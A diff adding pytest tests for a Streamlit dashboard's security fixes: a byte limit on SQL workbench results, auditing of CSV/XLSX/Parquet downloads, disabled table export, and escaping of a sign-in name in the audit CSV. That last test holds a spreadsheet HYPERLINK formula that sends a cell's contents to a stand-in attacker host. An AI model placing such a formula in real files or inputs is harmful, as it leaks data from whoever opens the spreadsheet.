@@ -8,15 +8,18 @@ from __future__ import annotations
 import datetime as dt
 import io
 import shutil
+import sys
+import tomllib
 import zipfile
 
 import polars as pl
 import pytest
+from download_helpers import Downloads
 from streamlit.testing.v1 import AppTest
 from streamlit.util import calc_hash
 
 from dashboard.access import audit
-from dashboard.config import ROOT
+from dashboard.config import ROOT, workbench_max_bytes
 from dashboard.csvsafe import csv_bytes, csv_text
 from dashboard.engine import sandbox
 from dashboard.i18n import t
@@ -208,3 +211,140 @@ def test_finding_01_the_page_shows_words_and_writes_one_line_per_run(base, monke
     at.text_area(key="wb_sql").set_value(JOIN)
     at = at.button(key="wb_run").click().run()
     assert t("workbench.renamed", "vi", names="dataset_id → dataset_id_2") in [i.value for i in at.info]
+
+
+# ---- finding 5: a byte budget for a workbench result -----------------------------------------------------------
+
+# the issue's query, 100 times smaller per cell (1,500 characters instead of 150,000)
+WIDE = "SELECT repeat('x',1500)||i a, repeat('y',1500)||i b, repeat('z',1500)||i c FROM range(10000) t(i)"
+
+
+def test_finding_05_the_budget_is_a_setting_of_50_mb(monkeypatch):
+    monkeypatch.delenv("DASHBOARD_WORKBENCH_MAX_BYTES", raising=False)
+    assert workbench_max_bytes() == 50_000_000
+    monkeypatch.setenv("DASHBOARD_WORKBENCH_MAX_BYTES", "20MB")
+    assert workbench_max_bytes() == 20_000_000
+    monkeypatch.setenv("DASHBOARD_WORKBENCH_MAX_BYTES", "1000000")
+    assert workbench_max_bytes() == 1_000_000
+    for bad in ("lots", "0", "-5MB", "12 parsecs"):
+        monkeypatch.setenv("DASHBOARD_WORKBENCH_MAX_BYTES", bad)
+        with pytest.raises(ValueError, match="DASHBOARD_WORKBENCH_MAX_BYTES"):
+            workbench_max_bytes()
+
+
+def test_finding_05_a_wide_result_is_cut_at_the_byte_budget(base, monkeypatch):
+    monkeypatch.setenv("DASHBOARD_WORKBENCH_MAX_BYTES", "1000000")
+    outcome, line = run_once(base, WIDE)
+    kept = outcome.frame.height
+    # a row holds 3 texts of 1,501 to 1,503 characters (i < 1000): at least 3 * 1501 = 4,503 bytes, so at most
+    # 1,000,000 / 4,503 = 222.07 -> 222 rows fit; with at most 16 bytes of offsets or views per text, a row takes at
+    # most 3 * (1503 + 16) + 1 = 4,558 bytes, so at least 1,000,000 / 4,558 = 219.4 -> 219 rows fit
+    assert 219 <= kept <= 222
+    assert outcome.total_rows == 10_000 and outcome.truncated and outcome.byte_budget == 1_000_000
+    assert outcome.frame.estimated_size() <= 1_000_000 * 1.1
+    assert outcome.frame["a"][0] == "x" * 1500 + "0" and outcome.frame["c"][kept - 1] == "z" * 1500 + str(kept - 1)
+    assert line["status"] == "ok" and line["cut"] == "bytes" and line["rows"] == 10_000 and line["kept_rows"] == kept
+    # the row cap still applies below the budget: 25,000 one-number rows keep 10,000
+    small, line = run_once(base, "select range as i from range(25000)")
+    assert (small.frame.height, small.total_rows, small.byte_budget, line["cut"]) == (10_000, 25_000, None, "rows")
+
+
+def test_finding_05_the_page_says_the_result_was_cut_and_how_much_was_kept(base, monkeypatch):
+    monkeypatch.setenv("DASHBOARD_WORKBENCH_MAX_BYTES", "1000000")
+    at = workbench_app(base, monkeypatch).run()
+    at.text_area(key="wb_sql").set_value(WIDE)
+    at = at.button(key="wb_run").click().run()
+    assert not at.exception and not at.error
+    shown = {m.label: m.value for m in at.metric}
+    kept = int(shown["Số dòng hiển thị"])
+    assert 219 <= kept <= 222 and shown["Tổng số dòng"] == "10.000"
+    assert [w.value for w in at.warning] == [
+        t("workbench.cut_bytes", "vi", budget="1,0 MB", shown=str(kept), total="10.000")
+    ]
+    assert len(at.dataframe[-1].value) == kept
+
+
+# ---- finding 6: every way data leaves is audited where the bytes are made ------------------------------------
+
+
+def downloads_of(base) -> list[dict]:
+    return audit.read(base, audit.now().date().isoformat(), event="download")
+
+
+def test_finding_06_workbench_downloads_are_audited_when_fetched_not_when_clicked(base, monkeypatch):
+    files = Downloads(monkeypatch)
+    at = workbench_app(base, monkeypatch).run()
+    at.text_area(key="wb_sql").set_value("select agency_id from agencies where agency_id like 'C%' order by 1")
+    at = at.button(key="wb_run").click().run()
+    buttons = {b.proto.id.rsplit("-", 1)[-1]: b for b in at.download_button}
+    assert not downloads_of(base)  # drawing the buttons writes nothing and makes no file
+    for kind in ("csv", "xlsx", "parquet"):
+        button = next(b for k, b in buttons.items() if k.endswith(f"wb_download_{kind}"))
+        # a client that skips the click and asks for the file directly: the bytes are made and audited there
+        data = files.fetch_button(button)
+        line = downloads_of(base)[-1]
+        assert (line["file"], line["what"], line["scope"], line["user"]) == (
+            f"workbench_result.{kind}",
+            "workbench",
+            "all",
+            "demo",
+        )
+        if kind == "csv":
+            assert data.decode("utf-8-sig") == "agency_id\nC1\nC2\n"  # the two central bodies
+    assert len(downloads_of(base)) == 3
+
+
+def test_finding_06_every_data_download_of_the_app_is_deferred_and_audited(base, monkeypatch):
+    files = Downloads(monkeypatch)
+    at = workbench_app(base, monkeypatch)
+    at._page_hash = calc_hash("sharing")
+    at = at.run()
+    assert not at.exception
+    buttons = list(at.download_button)
+    assert buttons and all(b.proto.deferred_file_id and not b.proto.url for b in buttons)
+    assert not downloads_of(base)
+    for button in buttons:
+        files.fetch_button(button)
+    assert len(downloads_of(base)) == len(buttons)
+    assert {line["file"].rsplit(".", 1)[-1] for line in downloads_of(base)} == {"csv", "xlsx"}
+
+
+def test_finding_06_the_table_toolbar_export_is_switched_off_wherever_the_app_starts(tiny_base, monkeypatch):
+    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
+    assert config["client"]["disableDataExport"] is True
+    # `python -m dashboard serve` passes it as a flag: config.toml is read only from the current directory
+    from streamlit.web import cli
+
+    from dashboard.web import serve
+
+    started: list[list[str]] = []
+
+    def fake_main():
+        started.append(list(sys.argv))
+        raise SystemExit(0)
+
+    monkeypatch.setattr(cli, "main", fake_main)
+    monkeypatch.setattr(serve, "preload", lambda: None)
+    monkeypatch.setattr(sys, "argv", list(sys.argv))
+    monkeypatch.setenv("DASHBOARD_DATA_DIR", str(tiny_base))
+    assert serve.serve(tiny_base) == 0
+    argv = started[0]
+    assert argv[argv.index("--client.disableDataExport") + 1] == "true"
+
+
+# ---- finding 7 on the page: the admin's audit CSV ------------------------------------------------------------
+
+
+def test_finding_07_a_sign_in_name_reaches_the_audit_csv_as_text(base, monkeypatch):
+    files = Downloads(monkeypatch)
+    audit.record(base, "sign_in_failed", EVIL, mode="password", reason="failed")
+    at = workbench_app(base, monkeypatch)
+    at._page_hash = calc_hash("audit")
+    at = at.run()
+    assert not at.exception
+    csv = next(b for b in at.download_button if b.proto.id.endswith(f"csv_audit_{audit.now().date().isoformat()}"))
+    text = files.fetch_button(csv).decode("utf-8-sig")
+    row = next(r for r in text.splitlines()[1:] if "HYPERLINK" in r)
+    # the user column: a leading quote, the CSV's own quotes doubled
+    assert ',"\'=HYPERLINK(""http://evil.example/?""&A2,""Mở"")",' in row
+    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
